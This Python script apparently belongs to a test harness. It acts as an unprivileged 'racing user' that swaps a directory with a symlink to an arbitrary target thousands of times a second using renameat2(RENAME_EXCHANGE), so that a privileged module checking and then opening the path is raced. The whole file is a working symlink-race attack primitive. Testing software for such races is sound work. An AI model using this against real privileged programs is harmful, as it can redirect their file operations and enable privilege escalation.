"""The racing user: swap DIR/NAME (a real directory) with a symlink to TARGET, thousands of times a second.

Runs as the unprivileged owner of DIR (systemd-run -p User=...). Every renameat2(RENAME_EXCHANGE)
flips which of the two the path NAME is, so a reader that checks NAME and opens it later sees
either. On SIGTERM it leaves the real directory in place and prints how many swaps it made.
"""
import ctypes
import os
import signal
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2
DECOY = ".swap"
# A pause far shorter than a module run (so each run meets either state at random) that leaves
# the CPU to the module under attack.
PAUSE = 0.0002

directory, name, target = sys.argv[1:4]
os.chdir(directory)
if not os.path.lexists(DECOY):
    os.symlink(target, DECOY)
libc = ctypes.CDLL(None, use_errno=True)
stopping = []


def exchange():
    if libc.renameat2(AT_FDCWD, name.encode(), AT_FDCWD, DECOY.encode(), RENAME_EXCHANGE) != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))


signal.signal(signal.SIGTERM, lambda *_: stopping.append(True))
swaps = 0
while not stopping:
    exchange()
    swaps += 1
    time.sleep(PAUSE)
if os.path.islink(name):
    exchange()
print(f"swaps: {swaps}", flush=True)
